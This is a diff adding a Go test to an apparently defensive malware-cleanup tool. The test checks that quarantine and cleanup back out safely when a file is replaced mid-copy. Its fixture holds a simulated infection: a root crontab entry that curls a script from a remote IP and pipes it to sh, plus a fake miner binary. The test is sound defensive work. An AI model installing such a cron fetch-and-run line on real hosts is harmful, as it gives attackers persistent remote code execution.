@@ -550,3 +550,51 @@ func TestOverrideCopyWithReplacedMainCommand(t *testing.T) {
 		t.Errorf("cron no longer enabled: %v", err)
 	}
 }
+
+// A file replaced (renamed over) while Apply copies it, as a payload the
+// malware keeps re-creating would be: the new file is neither removed nor
+// rewritten (it was never copied), Apply stops with ErrChanged, and
+// neither the manifest nor the quarantine keeps the backed-out change.
+func TestApplyRefusesFileReplacedWhileCopying(t *testing.T) {
+	ctx := context.Background()
+	dir := build(t, hosttest.Debian12().
+		Append("/etc/crontab", "* * * * * root curl -s http://203.0.113.7/x | sh\n", hosttest.InfectionTime).
+		With(hosttest.Entry{Path: "/var/tmp/.x/miner", Data: hosttest.FakeELF("miner"), Mode: 0o755}))
+	_, plan := findPlan(t, dir, PlanOptions{})
+	for _, p := range []string{"/var/tmp/.x/miner", "/etc/crontab"} {
+		t.Run(p, func(t *testing.T) {
+			c, ok := planOps(plan)[p]
+			if !ok {
+				t.Fatalf("no change planned for %s: %+v", p, plan.Changes)
+			}
+			full := filepath.Join(dir, p)
+			replacement := "re-created by the malware\n"
+			testHookBeforeSwap = func(rel string) {
+				if "/"+rel != p {
+					return
+				}
+				if err := os.WriteFile(full+".new", []byte(replacement), 0o644); err != nil {
+					t.Error(err)
+				}
+				if err := os.Rename(full+".new", full); err != nil {
+					t.Error(err)
+				}
+			}
+			t.Cleanup(func() { testHookBeforeSwap = nil })
+			q := t.TempDir()
+			res, err := Apply(ctx, &CleanPlan{Root: plan.Root, Changes: []Change{c}}, ApplyOptions{QuarantineDir: q})
+			if !errors.Is(err, ErrChanged) {
+				t.Fatalf("Apply over a file replaced mid-copy: %v", err)
+			}
+			if got := mustRead(t, dir, p); got != replacement {
+				t.Errorf("the replacement was touched: %q", got)
+			}
+			if n := storedFiles(t, q); n != 0 || len(res.Manifest.Entries) != 0 {
+				t.Errorf("backed-out change kept: %d stored, manifest %+v", n, res.Manifest.Entries)
+			}
+			if m, err := ReadManifest(res.ManifestPath); err != nil || len(m.Entries) != 0 {
+				t.Errorf("manifest on disk: %+v, %v", m, err)
+			}
+		})
+	}
+}
